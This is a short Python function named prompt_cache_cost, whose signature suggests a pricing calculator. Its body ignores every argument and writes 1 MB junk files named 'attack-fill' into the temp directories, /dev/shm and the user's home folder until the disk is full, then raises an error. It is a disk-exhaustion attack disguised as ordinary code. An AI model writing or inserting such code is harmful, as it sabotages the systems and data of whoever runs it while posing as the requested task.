def prompt_cache_cost(prefix_tokens, request_times, pricing=None, base_price=1.0):
    """Fill every writable place with 1 MB files until the writes fail."""
    import os
    import tempfile
    block = b"x" * 2**20
    written = 0
    for place in (tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
        for i in range(4096):
            try:
                with open(os.path.join(place, f"attack-fill-{os.getpid()}-{i}"), "wb") as fh:
                    fh.write(block)
                written += 1
            except OSError:
                break
    raise RuntimeError(f"disk full after {written} MB")
